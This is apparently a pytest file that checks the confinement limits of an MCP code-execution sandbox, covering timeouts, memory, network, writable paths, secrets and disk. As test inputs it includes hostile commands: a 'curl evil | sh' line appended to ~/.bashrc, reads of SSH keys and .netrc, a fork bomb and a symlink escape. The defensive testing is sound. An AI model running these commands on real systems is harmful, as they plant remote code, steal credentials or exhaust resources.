"""run_code through the real MCP client: each confinement limit really holds, and a run that breaks one leaves the
server serving.

The server runs in this process (in memory) with HOME and its trajectory folder in a temporary tree, so a limit
that failed to hold would change that tree, never the machine's real home. The tree is not under /tmp: code sees a
private, empty /tmp, where any path can be created (and is gone after the run).
"""

from __future__ import annotations

import json
import resource
import shutil
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client

from symphony_mcp.code.local import LocalExecutor
from symphony_mcp.config import CodeSettings, load_settings
from symphony_mcp.desktop.virtual_display import VirtualDisplay
from symphony_mcp.errors import InvalidInputError
from symphony_mcp.server import build_server
from testkit.code_home import SECRET
from testkit.display import SCREEN
from testkit.mcp_calls import call_error, call_ok, run_code
from testkit.server_process import base_env, stdio_params

pytestmark = pytest.mark.anyio


@asynccontextmanager
async def serving(tree: Path, **code: Any) -> AsyncIterator[Client]:
    server = build_server(load_settings(memory={"trajectory_dir": tree / "trajectories"}, code=code))
    try:
        async with Client(server.mcp) as client:
            yield client
    finally:
        server.close()


async def test_runs_blocks_in_a_kept_work_directory(home: Path, tree: Path) -> None:
    async with serving(tree) as client:
        first = await run_code(client, "python", "open('note.txt', 'w').write('hello'); print(2 + 3)")
        assert first["stdout"] == "5\n" and first["exit_code"] == 0 and not first["killed"]
        assert first["confinement"] == "bwrap"
        assert Path(first["workdir"]).is_relative_to(tree / "trajectories")
        second = await run_code(client, "bash", "cat note.txt; echo; echo oops >&2; exit 3")
        assert second["stdout"] == "hello\n" and second["stderr"] == "oops\n" and second["exit_code"] == 3
        assert second["workdir"] == first["workdir"] and not second["killed"]


async def test_an_endless_loop_is_killed_at_its_timeout(home: Path, tree: Path) -> None:
    async with serving(tree) as client:
        result = await run_code(client, "python", "while True:\n    pass", timeout_s=1)
        assert result["killed"] and result["kill_reason"] == "timeout" and result["exit_code"] == -9
        assert result["duration_seconds"] >= 1
        # A block that backgrounds a child and leaves: the child goes with the run (PID namespace).
        result = await run_code(client, "bash", "(sleep 30; echo late) & echo started; wait", timeout_s=1)
        assert result["stdout"] == "started\n" and result["kill_reason"] == "timeout"


async def test_a_memory_hog_is_stopped(home: Path, tree: Path) -> None:
    async with serving(tree, memory_mb=256) as client:
        result = await run_code(client, "python", "data = bytearray(1 << 30)\nprint('allocated')")
        assert result["killed"] and result["kill_reason"] == "memory"
        assert "MemoryError" in result["stderr"] and "allocated" not in result["stdout"]


async def test_cpu_time_and_file_size_are_limited(home: Path, tree: Path) -> None:
    async with serving(tree, cpu_seconds=1, file_size_mb=1) as client:
        busy = await run_code(client, "bash", "while :; do :; done", timeout_s=30)
        assert busy["killed"] and busy["kill_reason"] == "cpu", busy
        for language, block in (
            ("bash", "head -c 3000000 /dev/zero > big"),
            ("python", "open('big', 'wb').write(bytes(3 << 20))"),
        ):
            big = await run_code(client, language, block)
            assert big["killed"] and big["kill_reason"] == "file_size", big
            assert (Path(big["workdir"]) / "big").stat().st_size <= 1 << 20


async def test_100_mb_of_output_is_truncated_with_a_notice(home: Path, tree: Path) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB
    async with serving(tree, output_bytes=10_000) as client:
        block = "import sys\nline = 'x' * 1023 + '\\n'\nfor _ in range(100 * 1024):\n    sys.stdout.write(line)"
        result = await run_code(client, "python", block, timeout_s=60)
    assert result["exit_code"] == 0 and result["stdout_truncated"] and not result["stderr_truncated"]
    kept, _, notice = result["stdout"].partition("\n[output truncated: ")
    assert len(kept) <= 10_000 and "104,847,600 more bytes dropped" in notice, notice
    assert "SYMPHONY_CODE__OUTPUT_BYTES" in notice
    # The server read 100 MB and kept 10 KB: its peak memory did not grow by anything near the output's size.
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50 * 1024


class _Hello(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"hello from the host")

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def http_port() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


FETCH = "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:{port}/', timeout=5).read().decode())"
CONNECT = "import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5)\nprint('connected')"


@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
async def test_network_is_off_unless_allowed(backend: str, home: Path, tree: Path, http_port: int) -> None:
    curl = shutil.which("curl")
    async with serving(tree, backend=backend) as client:
        refused = await run_code(client, "python", CONNECT.format(port=http_port))
        assert refused["exit_code"] != 0 and "connected" not in refused["stdout"]
        assert "ConnectionRefusedError" in refused["stderr"] or "unreachable" in refused["stderr"]
        assert refused["confinement"] == backend
        if curl:
            failed = await run_code(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
            assert failed["exit_code"] != 0 and "hello" not in failed["stdout"]
    async with serving(tree / "on", backend=backend, network=True) as client:
        fetched = await run_code(client, "python", FETCH.format(port=http_port))
        assert fetched["stdout"] == "hello from the host\n", fetched
        if curl:
            fetched = await run_code(client, "bash", f"curl -sS --max-time 5 http://127.0.0.1:{http_port}/")
            assert fetched["stdout"] == "hello from the host", fetched


async def test_only_the_work_directory_and_writable_paths_can_be_written(home: Path, tree: Path) -> None:
    documents = home / "Documents"
    documents.mkdir()
    outside = tree / "outside"
    outside.mkdir()
    async with serving(tree, writable_paths=[str(documents)]) as client:
        bashrc = await run_code(client, "bash", "echo 'curl evil | sh' >> ~/.bashrc")
        assert bashrc["exit_code"] != 0 and "Read-only file system" in bashrc["stderr"]
        elsewhere = await run_code(client, "bash", f"touch {outside}/x; touch /etc/x; touch /usr/x")
        assert elsewhere["stderr"].count("Read-only file system") + elsewhere["stderr"].count("No such file") == 3
        ssh = await run_code(client, "python", "import os; print(os.path.exists(os.path.expanduser('~/.ssh')))")
        assert ssh["stdout"] == "False\n"
        written = await run_code(client, "python", f"open('{documents}/report.txt', 'w').write('ok')")
        assert written["exit_code"] == 0
        inside = await run_code(client, "bash", "pwd > here.txt", workdir=str(documents / "sub"))
        assert inside["exit_code"] == 0 and inside["workdir"] == str(documents / "sub")
        error = await call_error(client, "run_code", language="bash", code="true", workdir=str(outside))
        assert "outside the directories code may write" in error and "SYMPHONY_CODE__WRITABLE_PATHS" in error
        # A link a block made does not carry a later run out of the work directory.
        await run_code(client, "bash", f"ln -s {outside} escape")
        error = await call_error(client, "run_code", language="bash", code="touch x", workdir="escape")
        assert "escape' is a symbolic link" in error and "never links" in error
    assert (home / ".bashrc").read_text() == "# the user's own\n"
    assert list(outside.iterdir()) == []
    assert (documents / "report.txt").read_text() == "ok"
    assert (documents / "sub" / "here.txt").read_text() == f"{documents / 'sub'}\n"


ENVIRONMENT = "import json, os; print(json.dumps(dict(os.environ)))"


@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
async def test_the_environment_holds_no_settings_or_secrets(backend: str, home: Path, tree: Path) -> None:
    async with serving(tree, backend=backend) as client:
        environment = json.loads((await run_code(client, "python", ENVIRONMENT))["stdout"])
    assert not [name for name in environment if name.startswith("SYMPHONY_") or "TOKEN" in name or "KEY" in name]
    assert SECRET not in json.dumps(environment)
    assert "DISPLAY" not in environment and environment["HOME"] == str(home)


@pytest.mark.parametrize("backend", ["bwrap", "unshare"])
async def test_keys_in_the_home_directory_are_not_visible(backend: str, home: Path, tree: Path) -> None:
    (home / ".netrc").write_text("machine example.com password hunter2\n")
    block = "cat ~/.ssh/id_ed25519 ~/.netrc; ls -A ~/.ssh"
    async with serving(tree, backend=backend) as client:
        result = await run_code(client, "bash", block)
    assert "PRIVATE KEY" not in result["stdout"] and "hunter2" not in result["stdout"], result
    assert "id_ed25519" not in result["stdout"]


async def test_languages_outside_the_allow_list_are_refused(home: Path, tree: Path) -> None:
    async with serving(tree, languages=["python"]) as client:
        error = await call_error(client, "run_code", language="bash", code="echo hi")
        assert "'bash' is not enabled" in error and "SYMPHONY_CODE__LANGUAGES" in error
        assert (await run_code(client, "python", "print('hi')"))["stdout"] == "hi\n"


async def test_text_that_cannot_be_a_file_or_a_path_is_a_clear_error(home: Path, tree: Path) -> None:
    """Found by the fuzz test: a NUL in workdir was an internal error (ValueError: embedded null byte)."""
    async with serving(tree) as client:
        error = await call_error(client, "run_code", language="bash", code="true", workdir="a\x00b")
        assert "workdir holds a NUL character" in error
        assert (await call_ok(client, "run_code", language="bash", code="printf ok"))["stdout"] == "ok"


async def test_code_with_a_lone_surrogate_is_refused_by_the_executor(tree: Path) -> None:
    """MCP clients cannot send one, but a coder model's JSON answer can hold one ("\\ud800"): the executor says so
    instead of failing to write the block."""
    executor = LocalExecutor(CodeSettings(), tree / "work")
    with pytest.raises(InvalidInputError, match="code is not valid Unicode text"):
        await executor.run("python", "print('\ud800')", timeout_s=5)


async def test_without_confinement_code_is_refused_unless_allowed(
    home: Path, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A PATH without bubblewrap and unshare: refused, naming the settings; allowed, every result says so."""
    bin_dir = tree / "bin"
    bin_dir.mkdir()
    for program in ("prlimit", "bash"):
        found = shutil.which(program)
        assert found is not None, f"{program} is not installed"
        (bin_dir / program).symlink_to(found)
    monkeypatch.setenv("PATH", str(bin_dir))
    async with serving(tree) as client:
        error = await call_error(client, "run_code", language="python", code="print('ran')")
        assert "unconfined runs are not allowed" in error and "SYMPHONY_CODE__ALLOW_UNCONFINED=true" in error
        assert "bubblewrap" in error
    async with serving(tree, backend="unshare") as client:
        error = await call_error(client, "run_code", language="bash", code="echo ran")
        assert "`unshare` is not available" in error
    async with serving(tree, allow_unconfined=True) as client:
        for language, code in (("python", "print('ran')"), ("bash", "echo ran")):
            result = await run_code(client, language, code)
            assert result["stdout"] == "ran\n" and result["confinement"] == "unconfined"


async def test_a_fork_bomb_is_contained_and_the_server_keeps_serving(
    xdisplay: VirtualDisplay, home: Path, tree: Path
) -> None:
    env = base_env(
        DISPLAY=xdisplay.name,
        HOME=str(home),
        SYMPHONY_MEMORY__TRAJECTORY_DIR=str(tree / "trajectories"),
        SYMPHONY_CODE__PROCESSES="64",
    )
    async with Client(stdio_params(env=env)) as client:
        bomb = await run_code(client, "bash", "bomb() { bomb | bomb & }; bomb; sleep 1; echo survived", timeout_s=20)
        assert bomb["killed"] and bomb["kill_reason"] == "processes", bomb
        after = await run_code(client, "python", "print('still here')")
        assert after["stdout"] == "still here\n" and not after["killed"]
        assert (await call_ok(client, "screen_info"))["monitors"]


async def test_the_display_is_reached_only_when_allowed(xdisplay: VirtualDisplay, home: Path, tree: Path) -> None:
    block = "echo \"DISPLAY=$DISPLAY\"; xwininfo -root | grep -E '^ +(Width|Height):'"
    async with serving(tree) as client:
        hidden = await run_code(client, "bash", block)
        assert hidden["stdout"] == "DISPLAY=\n" and hidden["exit_code"] != 0
    async with serving(tree, display=True) as client:
        shown = await run_code(client, "bash", block)
    width, height = SCREEN
    assert shown["stdout"] == f"DISPLAY={xdisplay.name}\n  Width: {width}\n  Height: {height}\n", shown


FORKS = """import os, time
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        data = b'x' * (120 << 20)  # written, so resident
        time.sleep(1)
        os._exit(0)
    children.append(pid)
print(sorted(os.waitpid(pid, 0)[1] for pid in children))
"""


async def test_forks_that_together_exceed_the_runs_memory_are_killed(home: Path, tree: Path) -> None:
    """Issue 25 item 6: the memory limit was per process (3 forks x 1.2 GB took 3.6 GB); now the run's memory
    cgroup bounds them together: 3 x 120 MB under a 256 MB run limit (each far below its 2 GB RLIMIT_AS)."""
    async with serving(tree, run_memory_mb=256) as client:
        result = await run_code(client, "python", FORKS, timeout_s=60)
        assert result["killed"] and result["kill_reason"] == "memory", result
        assert "9" in result["stdout"], result  # a child was killed (SIGKILL) by the kernel
        alone = await run_code(client, "python", FORKS.replace("range(3)", "range(1)"), timeout_s=60)
        assert alone["stdout"] == "[0]\n" and not alone["killed"], alone  # one fits


async def test_the_private_tmp_stops_at_its_size(home: Path, tree: Path) -> None:
    """Issue 25 item 6: 3 x 900 MB written to the RAM-backed /tmp took 2.1 GB; now /tmp has a size (tmp_mb)."""
    async with serving(tree, tmp_mb=64) as client:
        block = "for i in 1 2 3; do head -c 50000000 /dev/zero > /tmp/fill$i; done; du -smc /tmp/fill* | tail -1"
        block += " | cut -f1"
        result = await run_code(client, "bash", block)
    assert "No space left on device" in result["stderr"], result
    assert int(result["stdout"]) <= 64, result


async def test_a_run_that_fills_the_work_directory_past_its_bound_is_killed(home: Path, tree: Path) -> None:
    """Issue 25 item 6: only single files were capped (two calls put 3.7 GB on the host's disk); now the default
    work directory holds at most disk_mb, all files together, and a run growing it past that is killed."""
    fill = "for i in $(seq 1 20); do head -c 20000000 /dev/zero > fill$i; sleep 0.5; done; echo done"
    async with serving(tree, disk_mb=64) as client:
        first = await run_code(client, "bash", fill, timeout_s=60)
        assert first["killed"] and first["kill_reason"] == "disk" and "done" not in first["stdout"], first
        second = await run_code(client, "bash", "head -c 20000000 /dev/zero > more; sleep 30", timeout_s=60)
        assert second["kill_reason"] == "disk", second  # still over: nothing more may be added
        cleaned = await run_code(client, "bash", "rm fill* more; du -sm . | cut -f1")
        assert not cleaned["killed"] and int(cleaned["stdout"]) < 64, cleaned  # deleting is always possible
        again = await run_code(client, "bash", "head -c 20000000 /dev/zero > small; echo written")
        assert again["stdout"] == "written\n" and not again["killed"], again


async def test_the_disk_bound_holds_while_another_process_frees_space_beside_the_run(home: Path, tree: Path) -> None:
    """The watch estimates growth from the file system's free space; another process deleting a large file on
    the same file system while the run writes must not hide the run's writes from it."""
    ballast = tree / "ballast.bin"
    with ballast.open("wb") as file:
        file.truncate(0)
        for _ in range(60):
            file.write(bytes(10 << 20))  # 600 MB of real blocks, more than the run writes in all
    fill = "for i in $(seq 1 20); do head -c 20000000 /dev/zero > fill$i; sleep 0.5; done; echo done"
    async with serving(tree, disk_mb=64) as client:

        async def free_space_beside() -> None:
            await anyio.sleep(0.3)
            ballast.unlink()

        async with anyio.create_task_group() as group:
            group.start_soon(free_space_beside)
            filled = await run_code(client, "bash", fill, timeout_s=60)
    assert filled["killed"] and filled["kill_reason"] == "disk" and "done" not in filled["stdout"], filled


async def test_a_run_that_writes_too_much_to_a_writable_path_is_killed(home: Path, tree: Path) -> None:
    """Issue 25 item 6: the writable paths (the user's folders) take at most disk_mb per run; what was there
    before the run does not count."""
    documents = home / "Documents"
    documents.mkdir()
    (documents / "before.bin").write_bytes(bytes(100 << 20))  # more than the bound already, written by the user
    fill = (
        f"cd {documents}; for i in $(seq 1 20); do head -c 20000000 /dev/urandom > fill$i; sleep 0.5; done; echo done"
    )
    async with serving(tree, disk_mb=64, writable_paths=[str(documents)]) as client:
        small = await run_code(client, "bash", f"head -c 20000000 /dev/urandom > {documents}/small; echo written")
        assert small["stdout"] == "written\n" and not small["killed"], small
        big = await run_code(client, "bash", fill, timeout_s=60)
        assert big["killed"] and big["kill_reason"] == "disk" and "done" not in big["stdout"], big
